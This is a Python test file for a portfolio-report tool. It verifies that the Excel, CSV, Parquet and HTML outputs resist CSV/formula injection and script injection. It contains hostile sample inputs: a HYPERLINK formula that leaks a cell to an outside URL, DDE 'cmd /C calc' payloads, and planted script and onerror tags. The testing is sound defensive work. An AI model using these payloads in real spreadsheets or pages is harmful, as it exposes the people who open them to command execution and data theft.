"""The report files stay inert (docs/portfolio.md, "Reports stay inert"): no cell of the workbook
is a formula, the CSV files follow OWASP's CSV-injection guidance while Parquet keeps the exact
text, and the HTML report carries a Content-Security-Policy that stops a script even if one were
ever let through the escaping."""

from __future__ import annotations

import csv
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

from veiviser.portfolio.reports import write_reports
from veiviser.portfolio.reports.inert import (
    CONTENT_SECURITY_POLICY,
    csv_safe,
    csv_safe_frame,
    starts_like_formula,
)

from .test_reports_data import SINCE, sample_dataset

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1, "klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    ds = sample_dataset()
    for i, title in zip((0, 1, 3, 4, 5), HOSTILE, strict=True):  # row 2 is closed: in no sheet
        ds.risks.loc[i, "Title"] = title
    ds.projects.loc[0, "project_title"] = "=1+1 prosjekt"
    return write_reports(ds, tmp_path_factory.mktemp("inert"), since=SINCE), ds


def test_no_cell_of_the_workbook_is_a_formula(hostile_reports):
    paths, _ = hostile_reports
    with zipfile.ZipFile(paths.excel) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode(), name
    wb = openpyxl.load_workbook(paths.excel)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if starts_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.add(cell.value)
    assert set(HOSTILE) <= seen  # every hostile title reached the workbook, as text
    assert "=1+1 prosjekt" in seen


def test_csv_files_prefix_formula_text_and_quote_every_field(hostile_reports):
    paths, _ = hostile_reports
    raw = paths.csv["fact_risks"].read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(raw.splitlines()))
    titles = {r["title"] for r in rows}
    for title in HOSTILE:
        assert "'" + title in titles and title not in titles
    for line in raw.splitlines()[:3]:  # every field quoted, numbers included
        assert re.fullmatch(r'("([^"]|"")*",)*"([^"]|"")*"', line), line
    # Numbers stay numbers (no apostrophe), negative ones included.
    assert all(not r["probability"].startswith("'") for r in rows)


def test_parquet_keeps_the_exact_text(hostile_reports):
    paths, _ = hostile_reports
    titles = set(pd.read_parquet(paths.parquet["fact_risks"])["title"])
    assert set(HOSTILE) <= titles


def test_csv_safe_touches_only_text():
    assert csv_safe("-5") == "'-5" and csv_safe(-5) == -5 and csv_safe("Søknad") == "Søknad"
    frame = pd.DataFrame({"t": pd.array(["=1", None, "a"], dtype="string"), "n": [-1.5, 2.0, None]})
    safe = csv_safe_frame(frame)
    assert safe["t"].tolist()[0] == "'=1" and pd.isna(safe["t"][1]) and safe["t"][2] == "a"
    assert safe["n"].equals(frame["n"]) and frame["t"][0] == "=1"  # the input is not changed


def test_html_carries_a_policy_that_forbids_scripts(hostile_reports):
    paths, _ = hostile_reports
    html = paths.html.read_text(encoding="utf-8")
    head = html.split("</head>", 1)[0]
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
    assert meta and meta.start() < head.index("<style>")  # before anything it governs
    policy = meta.group(1).replace("&#x27;", "'")
    assert policy == CONTENT_SECURITY_POLICY
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'none'" and "script-src" not in directives
    assert "'unsafe-inline'" not in directives["default-src"]


@pytest.mark.browser
def test_policy_stops_a_script_that_got_through(browser, hostile_reports, tmp_path):
    """Should escaping ever fail, the browser still refuses to run the script."""
    paths, _ = hostile_reports
    html = paths.html.read_text(encoding="utf-8")
    planted = html.replace(
        "<body>",
        "<body><script>document.documentElement.dataset.ran = 'yes'</script>"
        '<img src="x" onerror="document.documentElement.dataset.ran = \'img\'">',
        1,
    )
    page = tmp_path / "planted.html"
    page.write_text(planted, encoding="utf-8")
    browser.open(page.as_uri())
    assert browser.evaluate("document.documentElement.dataset.ran || 'no'") == "no"
    assert any("Content Security Policy" in e for e in browser.console_errors())


def test_command_line_csv_is_safe_for_excel(tmp_path):
    """``itposmo``/``prioritise --format csv`` output is opened in Excel too: same OWASP rules."""
    from click.testing import CliRunner

    from veiviser.cli import main

    f = tmp_path / "it.csv"
    f.write_text('prosjekt;I;T;P;O1;S;M;O2\n"=1+1";1;2;3;4;5;6;7\n', encoding="utf-8")
    res = CliRunner().invoke(main, ["itposmo", str(f), "--format", "csv"])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(res.stdout.splitlines()))
    assert rows[1][0] == "'=1+1" and all(line.startswith('"') for line in res.stdout.splitlines() if line)
